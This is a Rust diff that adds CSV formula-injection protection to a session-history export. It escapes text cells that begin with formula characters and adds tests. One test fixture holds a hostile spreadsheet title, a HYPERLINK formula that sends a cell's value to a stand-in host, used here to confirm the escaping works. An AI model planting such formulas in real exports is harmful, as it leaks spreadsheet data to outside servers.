@@ -286,6 +286,17 @@ pub enum ExportError {
     Write(#[from] std::io::Error),
 }
 
+/// A text cell as a spreadsheet must read it: as text. A cell beginning with `=`, `+`, `-` or `@`
+/// (or a tab or carriage return before one) is a formula to Excel, LibreOffice and Google Sheets,
+/// and these cells hold what agents and remotes wrote (a title, a branch, a folder name): such a
+/// cell gets a leading `'`, which the spreadsheet shows as text and does not evaluate.
+pub fn spreadsheet_safe(cell: String) -> String {
+    match cell.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}"),
+        _ => cell,
+    }
+}
+
 /// `history --export`: the matching sessions, as CSV (one row a session) or JSON (each with its
 /// intervals).
 pub fn export(
@@ -337,16 +348,17 @@ pub fn export(
             for (id, s) in rows {
                 let usage = super::cost::session_usage(conn, id, prices)?.total;
                 let ended = s.state == SessionState::Ended;
+                let text = |t: String| spreadsheet_safe(t);
                 w.write_record([
-                    s.session_id.clone(),
+                    text(s.session_id.clone()),
                     s.agent.to_string(),
                     s.state.to_string(),
-                    project_of(s.repo.as_deref(), s.cwd.as_deref()),
-                    s.cwd.clone().unwrap_or_default(),
-                    s.repo.clone().unwrap_or_default(),
-                    s.branch.clone().unwrap_or_default(),
-                    s.model.clone().unwrap_or_default(),
-                    s.title.clone().unwrap_or_default(),
+                    text(project_of(s.repo.as_deref(), s.cwd.as_deref())),
+                    text(s.cwd.clone().unwrap_or_default()),
+                    text(s.repo.clone().unwrap_or_default()),
+                    text(s.branch.clone().unwrap_or_default()),
+                    text(s.model.clone().unwrap_or_default()),
+                    text(s.title.clone().unwrap_or_default()),
                     s.pid.map(|p| p.to_string()).unwrap_or_default(),
                     s.started_at.to_rfc3339(),
                     if ended {
@@ -578,6 +590,8 @@ mod tests {
             let mut store = HistoryStore::open(&path).unwrap();
             let mut ended = session("a1", SessionState::Ended, "shop");
             ended.end_reason = Some(EndReason::ProcessGone);
+            // A title a prompt (or a hostile remote) could give: a formula to a spreadsheet.
+            ended.title = Some("=HYPERLINK(\"http://x/\"&A1)".into());
             store
                 .apply(&[
                     change(
@@ -673,6 +687,22 @@ mod tests {
         .unwrap();
         let text = String::from_utf8(csv_out).unwrap();
         assert_eq!(text.lines().count(), 3, "{text}");
+        // The hostile title the script gave a1 is text, not a formula (CSV doubles its quotes).
+        assert!(
+            text.contains(",\"'=HYPERLINK(\"\"http://x/\"\"&A1)\","),
+            "{text}"
+        );
+        for (cell, safe) in [
+            ("=1+1", "'=1+1"),
+            ("+SUM(A1)", "'+SUM(A1)"),
+            ("-2+3", "'-2+3"),
+            ("@cmd", "'@cmd"),
+            ("\t=1", "'\t=1"),
+            ("main", "main"),
+            ("", ""),
+        ] {
+            assert_eq!(spreadsheet_safe(cell.into()), safe);
+        }
         assert!(
             text.contains("a1,claude,ended,shop,/home/dev/shop,shop,main"),
             "{text}"
